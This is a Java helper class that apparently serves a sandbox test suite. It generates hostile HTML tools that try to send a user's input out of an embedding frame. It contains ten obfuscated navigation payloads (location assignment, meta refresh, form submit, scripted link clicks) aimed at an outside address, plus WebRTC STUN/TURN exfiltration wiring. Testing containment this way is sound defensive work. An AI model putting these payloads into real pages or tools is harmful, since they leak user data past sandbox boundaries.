package dev.keywheel.support;

import dev.keywheel.db.Json;
import dev.keywheel.db.TextResource;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Pattern;

/**
 * Tools that try to send the user's input out of their frame: one that tries all ways of {@code
 * hostile/ways-out.html} in turn, and one for each way that navigates the frame.
 */
public final class WaysOut {
  private static final String PAGE = TextResource.read("hostile/ways-out.html");
  private static final Pattern SCRIPTED = Pattern.compile("(?m)^ {2}\"([\\w-]+)\": n =>");
  private static final Pattern STATIC = Pattern.compile("\\b(static-[\\w-]+)");

  /** Ways that replace the tool; {@code HREF} is the address. */
  private static final List<String> LEAVING =
      List.of(
          "<script>window['loc'+'ation']='HREF'</script>",
          "<script>window['loc'+'ation'].replace('HREF')</script>",
          "<script>window['navi'+'gation'].navigate('HREF')</script>",
          "<a href='HREF'>x</a><script>document.querySelector('a').click()</script>",
          "<a href='HREF' download='x'>x</a><script>document.querySelector('a').click()</script>",
          "<form action='HREF'></form><script>document.forms[0].submit()</script>",
          "<meta http-equiv='refresh' content='0;url=HREF'>",
          "<script>document.head.append(Object.assign(document.createElement('meta'),{httpEquiv:'refresh',content:'0;url=HREF'}))</script>",
          "<script>document.body.innerHTML='<meta http-equiv=refresh content=\"0;url=HREF\">'</script>",
          "<svg><a href='HREF'><text>x</text></a></svg><script>document.querySelector('a').dispatchEvent(new MouseEvent('click'))</script>");

  private WaysOut() {}

  /** The names of all ways that the page tries in turn. */
  public static Set<String> names() {
    var names = new TreeSet<String>();
    SCRIPTED.matcher(PAGE).results().forEach(m -> names.add(m.group(1)));
    STATIC.matcher(PAGE).results().forEach(m -> names.add(m.group(1)));
    return names;
  }

  /** The tool that tries all ways. */
  public static String all(Outside outside) {
    var stuns = new LinkedHashMap<String, String>();
    names().stream()
        .filter(n -> n.contains("rtc") || n.equals("web-transport") || n.startsWith("srcdoc-own"))
        .forEach(n -> stuns.put(n, outside.stun(n)));
    var page =
        PAGE.replace("const own =", "const STUNS = " + Json.text(stuns) + ";\nconst own =")
            .replace("TURN", outside.turn())
            .replace("OUT/", outside.url() + "/");
    return Pattern.compile("STUN/([\\w-]+)")
        .matcher(page)
        .replaceAll(m -> outside.stun(m.group(1)));
  }

  /** Tools that navigate their frame, each with a way {@code leaving-1} and so on. */
  public static List<String> leaving(Outside outside) {
    return java.util.stream.IntStream.rangeClosed(1, LEAVING.size())
        .mapToObj(
            i ->
                "<!doctype html><html lang=\"en\"><head><title>x</title></head><body><h1>x</h1>"
                    + "<script>top.postMessage({made:[]},'*')</script>"
                    + LEAVING.get(i - 1).replace("HREF", outside.url() + "/leaving-" + i)
                    + "</body></html>")
        .toList();
  }
}
